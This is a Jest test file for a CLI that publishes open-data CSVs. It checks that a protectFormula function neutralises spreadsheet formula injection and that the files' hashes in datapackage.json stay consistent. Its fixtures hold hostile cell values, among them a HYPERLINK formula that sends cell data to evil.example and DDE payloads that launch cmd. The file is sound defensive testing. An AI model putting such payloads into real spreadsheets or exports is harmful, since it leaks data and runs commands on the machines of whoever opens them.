import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { createHash } from "node:crypto";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { main } from "../../src/cli/main.js";
import { protectFormula } from "../../src/protectFormula.js";
import { captureIo } from "../helpers/io.js";

// #27 item 7: every CSV the tool writes protects text cells a spreadsheet would run as formulas
// (one function, protectFormula — the team brief's CSV and the open data), keeps numbers numbers,
// says so in the data dictionary, and datapackage.json stays consistent with the files.

const HOSTILE = {
  "010001": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
  "010002": "+cmd|' /C calc'!A0",
  "010003": "@SUM(1+1)*cmd|' /C calc'!A0",
  "020001": "-2+3+cmd|x",
};
let root = "";
let publicDir = "";
const table = (file: string): Record<string, string>[] =>
  parse<Record<string, string>>(readFileSync(join(publicDir, "datos", file), "utf8"), { columns: true });

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), "semaforo-formula-"));
  const data = join(root, "data");
  cpSync("fixtures/tiny", data, { recursive: true });
  const units = readFileSync(join(data, "units.csv"), "utf8")
    .split("\n")
    .map((line) => {
      const [code, , ...rest] = line.split(",");
      const name = HOSTILE[code as keyof typeof HOSTILE];
      return name ? [code, `"${name.replaceAll('"', '""')}"`, ...rest].join(",") : line;
    })
    .join("\n");
  writeFileSync(join(data, "units.csv"), units);
  const indicators = JSON.parse(readFileSync(join(data, "indicators.json"), "utf8")) as {
    category: string;
  }[];
  indicators[0]!.category = "=1+1";
  writeFileSync(join(data, "indicators.json"), JSON.stringify(indicators));
  const io = captureIo();
  expect(await main(["validate", "--data", data], io)).toBe(0);
  expect(
    await main(["publish", "--data", data, "--period", "2026-05", "--out", join(root, "out")], captureIo()),
  ).toBe(0);
  publicDir = join(root, "out", "2026-05", "public");
}, 60_000);

afterAll(() => rmSync(root, { recursive: true, force: true }));

describe("protectFormula", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+cmd|x", "'+cmd|x"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["-2+3+cmd|x", "'-2+3+cmd|x"],
    ["\tx", "'\tx"],
    ["-1.5", "-1.5"],
    ["2e-5", "2e-5"],
    ["UGEL Bagua", "UGEL Bagua"],
  ])("%j → %j", (text, shown) => expect(protectFormula(text)).toBe(shown));
});

describe("the open data against formula injection", () => {
  it("carries every hostile unit name with an apostrophe before it, as text", () => {
    const names = new Map(table("unidades.csv").map((row) => [row.codigo, row.nombre]));
    for (const [code, name] of Object.entries(HOSTILE)) expect(names.get(code)).toBe(`'${name}`);
    expect(table("indicadores.csv")[0]?.categoria).toBe("'=1+1");
  });

  it("leaves no cell of any CSV that a spreadsheet would run, and keeps numbers numbers", () => {
    for (const file of ["valores.csv", "unidades.csv", "indicadores.csv", "diccionario.csv"])
      for (const row of table(file))
        for (const cell of Object.values(row)) expect(protectFormula(cell)).toBe(cell);
    const values = table("valores.csv");
    expect(values.length).toBeGreaterThan(100);
    for (const row of values)
      for (const column of ["numerador", "denominador", "escuelas_visitadas", "valor"])
        expect(row[column]).toMatch(/^-?\d+(\.\d+)?$/);
  });

  it("says so in the data dictionary and datapackage.json, which still states each file's hash", () => {
    const dictionary = table("diccionario.csv");
    const nombre = dictionary.find((row) => row.archivo === "datos/unidades.csv" && row.columna === "nombre");
    expect(nombre?.descripcion_es).toMatch(/apóstrofo \(’?'?\) delante/);
    expect(nombre?.descripcion_en).toMatch(/apostrophe/);
    const numeric = dictionary.find((row) => row.archivo === "datos/valores.csv" && row.columna === "valor");
    expect(numeric?.descripcion_es).not.toMatch(/apóstrofo/);
    const pkg = JSON.parse(readFileSync(join(publicDir, "datapackage.json"), "utf8")) as {
      resources: {
        path: string;
        hash: string;
        bytes: number;
        schema: { fields: { name: string; description: string }[] };
      }[];
    };
    for (const resource of pkg.resources) {
      const bytes = readFileSync(join(publicDir, resource.path));
      expect(resource.hash).toBe(`sha256:${createHash("sha256").update(bytes).digest("hex")}`);
      expect(resource.bytes).toBe(bytes.byteLength);
    }
    const units = pkg.resources.find((r) => r.path === "datos/unidades.csv");
    expect(units?.schema.fields.find((f) => f.name === "nombre")?.description).toMatch(/apostrophe/);
  });
});
